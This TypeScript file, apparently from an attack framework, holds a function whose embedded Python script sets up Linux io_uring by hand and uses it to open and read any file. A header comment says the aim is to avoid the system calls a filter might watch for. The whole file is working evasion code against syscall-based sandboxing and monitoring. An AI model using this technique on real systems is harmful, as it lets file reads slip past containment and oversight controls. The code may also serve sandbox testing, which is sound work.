/** io_uring by hand: opens and reads a file without the system calls a filter might look for. */
import { python, SYSTEM_CALL } from "../frame/attack.ts";

/** Prints what is in `path`. Offsets: linux/io_uring.h. */
export function readOverRing(path: string): string {
  return python(`${SYSTEM_CALL}
import mmap, struct
params = ctypes.create_string_buffer(120)
ring, error = call("io_uring_setup", 4, params)
print("ring", ring, error)
facts = struct.unpack("<30I", params.raw)
sq, cq = facts[10:20], facts[20:30]
sq_head, sq_tail, sq_mask, _, _, _, sq_array = sq[:7]
cq_head, cq_tail, cq_mask, _, _, cqes = cq[:6]
size = max(sq_array + 4 * facts[0], cqes + 16 * facts[1])
rings = mmap.mmap(ring, size, offset=0)
entries = mmap.mmap(ring, 64 * facts[0], offset=0x10000000)
def put(at, value): rings[at:at + 4] = struct.pack("<I", value)
def get(at): return struct.unpack("<I", rings[at:at + 4])[0]
def do(entry):
  tail = get(sq_tail)
  slot = tail & get(sq_mask)
  entries[slot * 64:slot * 64 + 64] = entry.ljust(64, b"\\0")
  put(sq_array + 4 * slot, slot)
  put(sq_tail, tail + 1)
  libc.syscall(ctypes.c_long(426), ctypes.c_long(ring), ctypes.c_long(1), ctypes.c_long(1), ctypes.c_long(1), None, ctypes.c_long(0))
  head = get(cq_head)
  at = cqes + 16 * (head & get(cq_mask))
  put(cq_head, head + 1)
  return struct.unpack("<Qii", rings[at:at + 16])[1]
name = ctypes.create_string_buffer(b"${path}")
into = ctypes.create_string_buffer(100)
# opcode, flags, ioprio, fd, off, addr, len, flags
fd = do(struct.pack("<BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, 0))
print("opened", fd)
print("read", do(struct.pack("<BBHiQQII", 22, 0, 0, fd, 0, ctypes.addressof(into), 100, 0)))
print(into.value.decode())`);
}
